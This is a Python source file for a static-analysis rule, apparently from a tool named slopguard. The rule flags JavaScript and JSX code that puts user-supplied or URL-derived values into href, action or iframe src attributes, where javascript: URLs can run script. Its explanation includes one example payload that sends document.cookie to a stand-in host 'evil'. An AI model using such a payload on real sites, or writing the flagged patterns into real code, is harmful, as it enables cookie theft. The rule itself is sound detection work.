"""JS-XSS-004: a link or frame URL taken from the page's address or from what users submitted, where a
javascript: URL runs script: JSX (``<a href={searchParams.get('next')}>``, ``<a href={user.website}>``) and DOM
code (``a.setAttribute('href', params.get('back'))``, ``frame.src = location.hash.slice(1)``)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from tree_sitter import Node

from slopguard.core.finding import Confidence, Severity
from slopguard.engine.flow import describe
from slopguard.engine.hit import Hit
from slopguard.engine.registry import ts_rule
from slopguard.engine.treesitter.context import TSContext
from slopguard.rules.javascript.common import enclosing_function, resolve, speaking_name, string_value, unwrap
from slopguard.rules.javascript.request_data import fixed_prefix

_LINK_ATTRIBUTES = frozenset({"href", "xlinkHref", "action", "formAction"})
_FRAME_ELEMENTS = frozenset({"iframe", "embed", "frame"})
# What a user typed into their profile or a post: `user.website`, `author.homepage`, `comment.link`.
_SUBMITTED_OWNER = re.compile(
    r"(?i)^(?:user|profile|author|member|account|owner|customer|comment|commenter|submission|creator|seller|"
    r"vendor|contact|candidate|applicant|player|guest|person)$"
)
_SUBMITTED_URL = re.compile(r"(?i)^(?:website|homepage|home_page|url|link|site|blog|portfolio|web|social\w*)(?:url)?$")
# A scheme check in the component: `url.startsWith('https://')`, /^https?:/.test(url), a sanitiser.
_SCHEME_CHECK = re.compile(
    r"""(?i)startsWith\(\s*['"`]https?|\^https\?:|\^\(?https|\.protocol\b|sanitizeUrl|safeUrl|isSafeUrl|isValidUrl|"""
    r"""isHttpUrl|braintree/sanitize-url|DOMPurify|javascript:"""
)
_CHECKERS = re.compile(r"(?i)safe|saniti[sz]|valid|clean|allow")
_SAFE_PREFIX = re.compile(r"^(?:/[^/\\]|#|\?|mailto:|tel:|https?://[^/]+)", re.IGNORECASE)


def _attribute(ctx: TSContext, attr: Node) -> Node | None:
    """The expression of a URL attribute (``href={x}``, ``<iframe src={x}>``), else None."""
    children = attr.named_children
    if len(children) != 2 or children[1].type != "jsx_expression" or not children[1].named_children:
        return None
    name = ctx.text(children[0])
    element = attr.parent
    tag = ctx.text(element.child_by_field_name("name")) if element is not None else ""
    if name in _LINK_ATTRIBUTES or (name == "src" and tag in _FRAME_ELEMENTS):
        return children[1].named_children[0]
    return None


def _submitted_url(ctx: TSContext, value: Node) -> str | None:
    """``user.website``, ``profile?.homepage``: a URL field of a record users fill in, else None."""
    value = unwrap(value)
    if value.type != "member_expression":
        return None
    owner = value.child_by_field_name("object")
    owner_name = speaking_name(ctx, owner) if owner is not None else None
    field = ctx.text(value.child_by_field_name("property"))
    if owner_name is not None and _SUBMITTED_OWNER.match(owner_name) and _SUBMITTED_URL.match(field):
        return ctx.compact(value)
    return None


# DOM code: `a.href = x`, `link.setAttribute('href', x)`, `$(a).attr('href', x)`, `frame.src = x`.
_DOM_LINK_PROPERTIES = frozenset({"href", "action", "formAction"})
_DOM_LINK_ATTRIBUTES = frozenset({"href", "xlink:href", "action", "formaction"})
_SETTERS = frozenset({"setAttribute", "setAttributeNS", "attr"})
_FRAME_NAME = re.compile(r"(?i)(?:i?frame|embed)$")
_FRAME_DECLARATION = re.compile(r"""HTML(?:I?Frame|Embed|Object)Element|createElement\(\s*['"`](?i:i?frame|embed)\b""")
# Objects whose `href` is not a link on the page: URL objects and the window's location (JS-REDIRECT-001).
_NOT_ELEMENT = re.compile(r"(?i)(?:^|\.)(?:url|uri|location|loc|window|document|self|this|parsed|u)$|url$|uri$")


def _element_kind(ctx: TSContext, obj: Node) -> str:
    """'frame' for an iframe/frame/embed element (``document.createElement('iframe')``, a parameter typed
    ``HTMLIFrameElement``, ``previewFrame``), 'url' for a URL object or the location, '' for another element."""
    value = resolve(ctx, obj)
    if (
        value is not None
        and value.type == "new_expression"
        and ctx.text(value.child_by_field_name("constructor")) == "URL"
    ):
        return "url"
    if _NOT_ELEMENT.search(ctx.compact(obj)):
        return "url"
    declared = value.parent if value is not None and value.id != obj.id else _parameter(ctx, obj)
    if declared is not None and _FRAME_DECLARATION.search(ctx.text(declared)):
        return "frame"
    return "frame" if _FRAME_NAME.search(speaking_name(ctx, obj) or "") else ""


def _parameter(ctx: TSContext, ident: Node) -> Node | None:
    """The parameter of an enclosing function that declares ``ident``, else None."""
    name, fn = ctx.text(ident), enclosing_function(ident)
    while ident.type == "identifier" and fn is not None:
        params = fn.child_by_field_name("parameters")
        for param in params.named_children if params is not None else ():
            pattern = param.child_by_field_name("pattern") or param
            if ctx.text(pattern) == name:
                return param
        fn = enclosing_function(fn)
    return None


def _dom_sink(ctx: TSContext, captures: dict[str, list[Any]]) -> tuple[Node, Node] | None:
    """(node to report, URL written) for a link or frame URL set from script, else None."""
    if "setter" in captures:
        member = captures["setter"][0].parent
        call = member.parent if member is not None else None
        if (
            call is None
            or call.type != "call_expression"
            or getattr(call.child_by_field_name("function"), "id", None) != member.id
        ):
            return None
        args = ctx.arguments(call)
        attribute = (string_value(ctx, args[-2]) or "").lower() if len(args) >= 2 else ""
        obj = member.child_by_field_name("object")
        frame = obj is not None and _element_kind(ctx, obj) == "frame"
        if attribute in _DOM_LINK_ATTRIBUTES or (attribute == "src" and frame):
            return call, args[-1]
        return None
    member = captures["name"][0].parent
    assignment = member.parent if member is not None and member.type == "member_expression" else None
    if assignment is None or assignment.type != "assignment_expression":
        return None
    if getattr(assignment.child_by_field_name("left"), "id", None) != member.id:
        return None
    obj, prop = member.child_by_field_name("object"), ctx.text(captures["name"][0])
    kind = _element_kind(ctx, obj) if obj is not None else "url"
    value = assignment.child_by_field_name("right")
    if value is None or kind == "url" or (prop not in _DOM_LINK_PROPERTIES and not (prop == "src" and kind == "frame")):
        return None
    return assignment, value


@ts_rule(
    id="JS-XSS-004",
    title="Link or frame URL from the page address or user input (javascript: URLs)",
    cwe=(79, 83),
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    languages=("javascript", "typescript"),
    # property_identifier exists in every grammar (plain TypeScript has no JSX nodes); its parent is the attribute
    # (JSX) or a member expression (`a.href = x`, `a.setAttribute('href', x)`)
    query="""[
      ((property_identifier) @name (#match? @name "^(href|src|action|formAction|xlinkHref)$"))
      ((property_identifier) @setter (#match? @setter "^(setAttribute|setAttributeNS|attr)$"))
    ]""",
    why="""Assistants render a profile's website, a "back" link or an embed as <a href={user.website}>,
    <a href={searchParams.get('returnTo')}>, <iframe src={query.url}> or, in plain DOM code,
    backLink.setAttribute('href', params.get('back')) and a.href = user.website. Escaping text does not cover URL
    schemes: a value of javascript:fetch('//evil/'+document.cookie) runs in the site's origin when the link is
    clicked (React only warns), and an iframe loads whatever page the attacker names.""",
    fix="""Accept only http(s) URLs: parse with new URL(value) and check url.protocol is 'https:' or 'http:'
    (or use @braintree/sanitize-url) before rendering, and build internal links from fixed paths
    (href={`/users/${id}`}).""",
)
def url_attribute(captures: dict[str, list[Any]], ctx: TSContext) -> Iterator[Hit]:
    attr = captures["name"][0].parent if "name" in captures else None
    if attr is not None and attr.type == "jsx_attribute":
        value = _attribute(ctx, attr)
        found = (attr, value) if value is not None else None
    else:
        found = _dom_sink(ctx, captures)
    if found is not None:
        yield from _judge(ctx, *found)


def _judge(ctx: TSContext, sink: Node, value: Node) -> Iterator[Hit]:
    """A finding for a URL attribute set to ``value`` unless it is fixed, checked or not the user's."""
    prefix = fixed_prefix(ctx, value)
    if prefix and _SAFE_PREFIX.match(prefix):
        return
    inner = unwrap(value)
    if inner.type == "call_expression" and _CHECKERS.search(ctx.call_name(inner)):
        return  # href={safeUrl(user.website)}
    scope = enclosing_function(sink)
    if _SCHEME_CHECK.search(ctx.text(scope) if scope is not None else ctx.source.decode("utf-8", "replace")):
        return
    flow = ctx.flow(value)
    if flow.tainted:
        yield ctx.hit(sink, f"URL attribute takes {describe(flow)}: a javascript: URL runs script when followed")
        return
    submitted = _submitted_url(ctx, value)
    if submitted is not None:
        yield ctx.hit(
            sink,
            f"'{submitted}' is a URL users entered: a javascript: URL there runs script when clicked; allow http(s)",
            confidence=Confidence.LOW,
        )
